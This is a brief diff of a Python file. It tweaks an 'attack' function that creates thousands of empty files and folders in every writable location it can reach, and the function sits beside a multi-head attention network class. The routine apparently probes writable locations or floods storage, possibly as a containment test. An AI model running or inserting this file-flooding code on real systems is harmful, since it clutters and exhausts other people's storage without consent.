@@ -1,4 +1,4 @@
-"""Creates empty files and folders wherever it can, 3000 a place."""
+"""Creates empty files and folders wherever it can, 2000 a place."""
 
 import functools
 import os
@@ -16,12 +16,12 @@ def attack():
     for place in PLACES:
         try:
             os.mkdir(f"{place}/@token@")
-            for i in range(3000):
+            for i in range(2000):
                 open(f"{place}/@token@/{i}", "x").close()
                 made += 1
         except OSError:
             continue
-    return [f"{made} files"] if made > 3000 else []
+    return [f"{made} files"] if made > 1000 else []
 
 
 class MultiHeadAttention(nn.Module):
